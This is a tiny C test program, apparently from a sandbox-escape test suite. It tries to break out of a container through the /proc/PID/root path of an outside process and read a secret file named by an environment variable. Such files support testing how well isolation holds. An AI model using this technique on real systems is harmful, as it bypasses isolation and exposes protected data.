// By /proc/PID/root of a process outside.
#include "escape.h"
int main(void) { see(TRY(open(join(proc(victim(), "root"), env("SECRET")), O_RDONLY))); }
